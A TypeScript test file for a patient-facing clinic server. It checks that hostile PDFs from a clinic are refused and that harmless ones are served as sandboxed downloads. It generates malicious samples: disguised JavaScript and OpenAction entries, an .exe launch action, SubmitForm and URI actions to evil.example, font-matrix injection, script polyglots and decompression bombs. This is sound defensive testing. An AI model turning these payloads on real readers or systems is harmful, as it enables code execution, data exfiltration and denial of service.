// G22: what a clinic calls a result may be anything. Nothing that acts, swells or pretends reaches a patient; what is harmless does.
import { deflateSync } from 'node:zlib'
import { confirmACode, sendACode } from '@vizit/contract/a-code'
import { requestOf } from '@vizit/contract/call'
import { readTestReport } from '@vizit/contract/results'
import { sql } from '../../apps/server/src/store/store.ts'
import { pdfOf, streamOf, withPacked } from '../../apps/server/src/testing/test-pdfs.ts'
import { aReport } from '../../apps/server/src/testing/test-reports.ts'
import type { Patient } from '../../apps/server/src/testing/test-server.ts'
import { randomOf } from '../setup/random.ts'
import { codeFor, openPeopleGround, type PeopleGround } from './people-ground.ts'
import { atMost, enough, exactly, type Figure, none, type Proof, type Run, told } from './proof.ts'

const FILES = { short: 100, usual: 250, full: 500 }
const MB = 1_048_576

export const hostilePdfs: Proof = {
  name: 'G22',
  title: 'of hostile documents that a clinic gives none reaches a patient, and the harmless ones do, as a download that may do nothing',
  ids: [],
  sabotage: 'what a clinic gave is served as it was once kept, without a check of it',
  run
}

type Random = ReturnType<typeof randomOf>

/** A name in one of its many spellings. */
function disguised(random: Random, name: string): string {
  return [...name].map(letter => (random.whole(0, 2) === 0 ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join('')
}

const SCRIPT = '<script>alert(document.domain)</script>'
const filler = (random: Random) => 'x'.repeat(random.whole(1, 400))

/** One maker for each way of being hostile. */
const HOSTILE: ((random: Random) => Buffer)[] = [
  random =>
    pdfOf({
      catalogue: '/OpenAction 5 0 R',
      objects: [`<< /S /${disguised(random, 'JavaScript')} /${disguised(random, 'JS')} (app.alert(1)) >>`]
    }),
  random => withPacked(`<< /S /${disguised(random, 'JavaScript')} >> ${filler(random)}`),
  random => pdfOf({ objects: [`<< /${disguised(random, 'AA')} << /O 5 0 R >> >>`] }),
  random => pdfOf({ objects: [`<< /S /${disguised(random, 'Launch')} /F (${filler(random)}.exe) >>`] }),
  random => pdfOf({ objects: [streamOf(filler(random), '/Type /EmbeddedFile')] }),
  random => withPacked(`<< /Names << /EmbeddedFiles 9 0 R >> >> ${filler(random)}`),
  random => pdfOf({ catalogue: '/OpenAction 5 0 R', objects: [`<< /S /URI /URI (https://evil.example/${filler(random)}) >>`] }),
  random => pdfOf({ catalogue: '/AcroForm 5 0 R', objects: [`<< /XFA (${filler(random)}) >>`] }),
  random => pdfOf({ objects: [`<< /S /SubmitForm /F (https://evil.example/${filler(random)}) >>`] }),
  random => pdfOf({ objects: [`<< /S /Rendition /N (${filler(random)}) >>`] }),
  random => pdfOf({ objects: [`<< /FontMatrix [1 2 3 4 5 (0\\); alert\\('${filler(random)}'\\))] >>`] }),
  random => pdfOf({ objects: [streamOf(`/FontMatrix [0.1 0 0 0.1 0 (alert\\(${random.whole(1, 9)}\\))] readonly def`)] }),
  random => Buffer.concat([Buffer.from(`<html>${filler(random)}${SCRIPT}\n`), pdfOf()]),
  random => pdfOf({ tail: `${filler(random)}${SCRIPT}` }),
  random => pdfOf().subarray(0, random.whole(9, pdfOf().length - 20)),
  random =>
    Buffer.concat([pdfOf().subarray(0, 9), Buffer.from(Array.from({ length: random.whole(1, 5_000) }, () => random.whole(0, 255)))]),
  random => Buffer.from(Array.from({ length: random.whole(0, 5_000) }, () => random.whole(0, 255))),
  random => Buffer.from(`${['MZ', 'PK\x03\x04', '\x89PNG', 'GIF89a', '%!PS'][random.whole(0, 4)]}${filler(random)}`),
  random => Buffer.from(`<!doctype html>${SCRIPT}${filler(random)}`),
  random => pdfOf({ objects: [`<< /Encrypt 9 0 R /V ${random.whole(1, 5)} >>`] }),
  random => pdfOf({ objects: [`<< /Filter /FlateDecode /Length 9 >>\nstream\n${filler(random)}\nendstream`] }),
  () => pdfOf({ objects: [streamOf(deflateSync('10 0 << /S /JavaScript >>'), '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]')] })
]
/** Heavy ones, a few of each whatever the size. */
const BOMBS: (() => Buffer)[] = [
  () => pdfOf({ objects: [streamOf(Buffer.alloc(200 * MB))] }),
  () => pdfOf({ objects: Array.from({ length: 20 }, () => streamOf(Buffer.alloc(8 * MB))) }),
  () => pdfOf({ objects: [streamOf(Buffer.concat([deflateSync(Buffer.alloc(100 * MB))]), '/Type /ObjStm')] }).subarray(0, -40),
  () => Buffer.concat([pdfOf(), Buffer.alloc(64 * MB)])
]
const HARMLESS: ((random: Random) => Buffer)[] = [
  random => pdfOf({ objects: [streamOf(`BT (${filler(random)}) Tj ET`)] }),
  random =>
    pdfOf({
      catalogue: '/OpenAction [3 0 R /Fit]',
      objects: [`<< /Subtype /Link /A << /S /URI /URI (https://clinic.example/${filler(random)}) >> >>`]
    }),
  random => withPacked(`<< /Type /Font /FontMatrix [0.001 0 0 0.001 0 0] >> ${filler(random)}`)
]

async function run({ size, seed, sabotage }: Run): Promise<Figure[]> {
  const random = randomOf(seed)
  const ground = await openPeopleGround()
  try {
    const patient = await ground.aPatient()
    const { assignmentId } = await ground.aDoctor()
    const reportId = await aReport(ground.store, { profileId: patient.profileId, assignmentId }, { documentId: 'Binary/1' })
    await ground.store.run(sql`update providers set gateway = 'far-away'`)
    await ground.store.run(sql`insert into settings (key, value) values ('acodeExpirationTime', '-1')`)
    if (sabotage) await ground.store.run(sql`insert into settings (key, value) values ('apiForTestsBumba', 'false')`)
    const accessCode = await open(ground, patient)
    const give = (pdf: Buffer) => giveDocument(ground, patient, { reportId, accessCode }, pdf, sabotage)

    let [hostile, served, unfriendly, harmless, refused, unguarded, slowest] = [0, 0, 0, 0, 0, 0, 0]
    const before = process.memoryUsage().rss
    let most = before
    const files = enough(FILES[size], sabotage, 22)
    const bombs = sabotage ? [] : BOMBS
    for (let n = 0; n < files + bombs.length; n++) {
      const pdf = n < files ? HOSTILE[n % HOSTILE.length]!(random) : bombs[n - files]!()
      const from = performance.now()
      const answer = await give(pdf)
      slowest = Math.max(slowest, performance.now() - from)
      most = Math.max(most, process.memoryUsage().rss)
      hostile++
      if (answer.status === 200) served++
      else if (answer.code !== 'DOCUMENT_REFUSED') unfriendly++
      if (!answer.guarded) unguarded++
    }
    for (let n = 0; n < (sabotage ? 3 : files / 5); n++) {
      const answer = await give(HARMLESS[n % HARMLESS.length]!(random))
      harmless++
      if (answer.status !== 200) refused++
      if (!answer.guarded) unguarded++
    }
    return [
      told('hostile documents given', hostile, 'files'),
      none('hostile documents served', served, 'files'),
      none('refused without a word for it', unfriendly, 'answers'),
      exactly('harmless documents served', harmless - refused, harmless, 'files'),
      none('answers that a browser might run or show', unguarded, 'answers'),
      // the bombs themselves are made in this very process
      atMost('memory taken at most', (most - before) / MB, 900, 'MB'),
      told('the slowest answer', slowest, 'ms')
    ]
  } finally {
    await ground.stop()
  }
}

async function open(ground: PeopleGround, patient: Patient): Promise<string> {
  const card = { profileId: patient.profileId, providerCode: 'azure' }
  await patient.call(sendACode, card)
  const opened = await patient.call(confirmACode, { ...card, code: codeFor(ground, patient.phone) })
  if (!opened.ok) throw new Error(`the card does not open: ${opened.code}`)
  return opened.value.accessCode
}

type Given = { status: number; code: string | null; guarded: boolean }

/** The clinic answers with these bytes, and the patient asks for the document. */
async function giveDocument(
  ground: PeopleGround,
  patient: Patient,
  { reportId, accessCode }: { reportId: string; accessCode: string },
  pdf: Buffer,
  sabotage: boolean
): Promise<Given> {
  await ground.store.run(sql`delete from report_files`)
  if (sabotage && pdf.length > 0 && pdf.length <= 10 * MB)
    await ground.store.run(sql`
      insert into report_files (report_id, profile_id, pdf, made_at) values (${reportId}, ${patient.profileId}, ${pdf}, ${ground.now()})`)
  ground.clinic.gateway = {
    timetableIsOurs: false,
    reserve: async () => ({ verdict: 'unknown' }),
    find: async () => ({ verdict: 'unknown' }),
    cancel: async () => 'unknown',
    document: async () => ({ verdict: 'read', value: { contentType: 'application/pdf', bytes: pdf }, setAside: [], cut: false })
  }
  const asked = { id: reportId, provider: 'azure', providerCode: 'azure', recordLink: reportId, profileId: patient.profileId, accessCode }
  const { url, headers } = requestOf(readTestReport, asked)
  const response = await fetch(ground.url + url, { headers: { ...headers, authorization: `Bearer ${patient.deviceId}.${patient.token}` } })
  const is = (name: string, pattern: RegExp) => pattern.test(response.headers.get(name) ?? '')
  const isSafe = is('x-content-type-options', /^nosniff$/) && is('cache-control', /no-store/)
  const isDownload = is('content-disposition', /^attachment;/) && is('content-security-policy', /^sandbox; default-src 'none'/)
  const body = await response.text()
  return {
    status: response.status,
    code: response.ok ? null : (/"error":"([^"]+)"/.exec(body)?.[1] ?? null),
    guarded: isSafe && (response.ok ? isDownload : !body.includes('<script'))
  }
}
